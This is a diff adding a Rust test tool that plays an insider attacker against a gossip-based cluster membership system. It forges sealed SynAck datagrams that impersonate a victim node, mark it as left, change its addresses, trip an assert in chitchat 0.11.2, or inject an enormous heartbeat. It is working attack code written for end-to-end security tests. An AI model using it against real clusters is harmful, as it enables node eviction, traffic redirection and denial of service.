@@ -1,0 +1,245 @@
+//! A member turned attacker, for the end-to-end tests of issue 6: sends
+//! correctly sealed gossip datagrams (it holds the join token and a
+//! member's identity key) that speak for another node.
+//!
+//! ```text
+//! ovl-gossip-forge --token T --key STATE_DIR/identity.pk8 --to IP:PORT \
+//!     --victim NODE_ID:GENERATION:IP:PORT --mode MODE [--count N] [--interval-ms MS]
+//! ```
+//! Modes (each one SynAck datagram, the message chitchat applies without
+//! having asked for it):
+//! - `newer-left-unsigned`: a newer incarnation of the victim with the old
+//!   plain `left=1` key-value (the attack that worked before records were
+//!   signed);
+//! - `newer-left-signed`: a newer incarnation with a record claiming the
+//!   victim's id, `left` set, signed by the attacker's own key;
+//! - `newer-addrs-signed`: the same with changed addresses;
+//! - `trip-assert`: a delta whose `SetMaxVersion` is below its key-value's
+//!   version (tripped an `assert!` in chitchat 0.11.2);
+//! - `huge-heartbeat`: the victim's current incarnation with a heartbeat of
+//!   `u64::MAX - 1` (would make every real heartbeat look old).
+//!
+//! Prints one line per datagram sent. Only for tests: it sends to the one
+//! address given, inside the test's namespaces.
+
+use std::net::{SocketAddr, UdpSocket};
+use std::time::{Duration, SystemTime, UNIX_EPOCH};
+
+use anyhow::{Context, Result, bail};
+use ovl_agent::ids::ClusterId;
+use ovl_agent::membership::record::{self, NodeFacts, RECORD_KEY};
+use ovl_agent::membership::transport::signed_plaintext;
+use ovl_agent::membership::wire::{DeltaOp, DigestEntry, Kind, WireId, encode_message};
+use ovl_agent::membership::{seal, sealer};
+use ovl_agent::token::JoinToken;
+use ring::rand::{SecureRandom, SystemRandom};
+use ring::signature::Ed25519KeyPair;
+
+struct Args {
+    token: JoinToken,
+    key: Ed25519KeyPair,
+    to: SocketAddr,
+    victim: WireId,
+    mode: String,
+    count: u32,
+    interval: Duration,
+}
+
+fn parse_args() -> Result<Args> {
+    let mut it = std::env::args().skip(1);
+    let (mut token, mut key, mut to, mut victim, mut mode) = (None, None, None, None, None);
+    let (mut count, mut interval) = (1u32, Duration::from_millis(100));
+    while let Some(flag) = it.next() {
+        let value = it.next().with_context(|| format!("{flag} needs a value"))?;
+        match flag.as_str() {
+            "--token" => token = Some(value.parse::<JoinToken>()?),
+            "--key" => {
+                let pk8 = std::fs::read(&value).with_context(|| format!("reading {value}"))?;
+                key = Some(
+                    Ed25519KeyPair::from_pkcs8(&pk8)
+                        .map_err(|_| anyhow::anyhow!("{value}: not an Ed25519 PKCS#8 key"))?,
+                );
+            }
+            "--to" => to = Some(value.parse()?),
+            "--victim" => victim = Some(parse_victim(&value)?),
+            "--mode" => mode = Some(value),
+            "--count" => count = value.parse()?,
+            "--interval-ms" => interval = Duration::from_millis(value.parse()?),
+            _ => bail!("unknown flag {flag}"),
+        }
+    }
+    Ok(Args {
+        token: token.context("--token is required")?,
+        key: key.context("--key is required")?,
+        to: to.context("--to is required")?,
+        victim: victim.context("--victim is required")?,
+        mode: mode.context("--mode is required")?,
+        count,
+        interval,
+    })
+}
+
+/// `NODE_ID:GENERATION:IP:PORT`
+fn parse_victim(s: &str) -> Result<WireId> {
+    let mut parts = s.splitn(3, ':');
+    let (Some(id), Some(generation), Some(addr)) = (parts.next(), parts.next(), parts.next())
+    else {
+        bail!("--victim wants NODE_ID:GENERATION:IP:PORT, got {s:?}");
+    };
+    Ok(WireId {
+        node_id: id.to_string(),
+        generation: generation.parse()?,
+        gossip_addr: addr.parse()?,
+    })
+}
+
+fn unix_ms() -> u64 {
+    SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .map(|d| d.as_millis() as u64)
+        .unwrap_or(0)
+}
+
+fn node_op(id: &WireId) -> DeltaOp {
+    DeltaOp::Node {
+        id: id.clone(),
+        last_gc_version: 0,
+        from_version: 0,
+    }
+}
+
+fn kv(key: &str, value: String, version: u64) -> DeltaOp {
+    DeltaOp::KeyValue {
+        key: key.to_string(),
+        value,
+        version,
+        status: 0,
+    }
+}
+
+/// The chitchat message of one forged datagram.
+fn forged(args: &Args) -> Result<Vec<u8>> {
+    let cluster: ClusterId = args.token.cluster_id();
+    let mut newer = args.victim.clone();
+    newer.generation += 1;
+    let digest_newer = [DigestEntry {
+        id: newer.clone(),
+        heartbeat: unix_ms(),
+        last_gc_version: 0,
+        max_version: 1,
+    }];
+    let signed = |facts: NodeFacts| {
+        record::sign(
+            &args.key,
+            cluster,
+            newer.generation,
+            1,
+            newer.gossip_addr,
+            &facts,
+        )
+    };
+    let ip = args.victim.gossip_addr.ip().to_string();
+    Ok(match args.mode.as_str() {
+        "newer-left-unsigned" => encode_message(
+            Kind::SynAck,
+            &digest_newer,
+            &[node_op(&newer), kv("left", "1".into(), 1)],
+        ),
+        "newer-left-signed" => encode_message(
+            Kind::SynAck,
+            &digest_newer,
+            &[
+                node_op(&newer),
+                kv(
+                    RECORD_KEY,
+                    signed(NodeFacts {
+                        name: "forged".into(),
+                        advertise_addr: ip.clone(),
+                        data_path_addr: ip,
+                        table_version: 0,
+                        left: true,
+                    }),
+                    1,
+                ),
+            ],
+        ),
+        "newer-addrs-signed" => encode_message(
+            Kind::SynAck,
+            &digest_newer,
+            &[
+                node_op(&newer),
+                kv(
+                    RECORD_KEY,
+                    signed(NodeFacts {
+                        name: "forged".into(),
+                        advertise_addr: "198.18.0.99".into(),
+                        data_path_addr: "198.18.0.99".into(),
+                        table_version: 0,
+                        left: false,
+                    }),
+                    1,
+                ),
+            ],
+        ),
+        "trip-assert" => encode_message(
+            Kind::SynAck,
+            &[],
+            &[
+                node_op(&args.victim),
+                kv(RECORD_KEY, "x".into(), 1_000_000),
+                DeltaOp::SetMaxVersion(5),
+            ],
+        ),
+        "huge-heartbeat" => encode_message(
+            Kind::SynAck,
+            &[DigestEntry {
+                id: args.victim.clone(),
+                heartbeat: u64::MAX - 1,
+                last_gc_version: 0,
+                max_version: 1,
+            }],
+            &[],
+        ),
+        other => bail!("unknown --mode {other}"),
+    })
+}
+
+fn main() -> Result<()> {
+    let args = parse_args()?;
+    let rng = SystemRandom::new();
+    let keys = args.token.keys();
+    let sealer = sealer(keys.gossip.clone());
+    let bind: SocketAddr = if args.to.is_ipv4() {
+        "0.0.0.0:0".parse()?
+    } else {
+        "[::]:0".parse()?
+    };
+    let socket = UdpSocket::bind(bind).context("bind UDP")?;
+    let (mut plain, mut sealed) = (Vec::new(), Vec::new());
+    for i in 0..args.count {
+        let msg = forged(&args)?;
+        let now = unix_ms();
+        signed_plaintext(&args.key, args.token.cluster_id(), now, &msg, &mut plain);
+        let mut nonce = [0u8; 12];
+        rng.fill(&mut nonce)
+            .map_err(|_| anyhow::anyhow!("random source failed"))?;
+        sealer.seal(now, nonce, &plain, &mut sealed);
+        if sealed.len() > seal::MAX_DATAGRAM {
+            bail!("datagram too large");
+        }
+        socket
+            .send_to(&sealed, args.to)
+            .with_context(|| format!("send to {}", args.to))?;
+        println!(
+            "sent {} datagram {} ({} bytes) to {}",
+            args.mode,
+            i + 1,
+            sealed.len(),
+            args.to
+        );
+        if i + 1 < args.count {
+            std::thread::sleep(args.interval);
+        }
+    }
+    Ok(())
+}
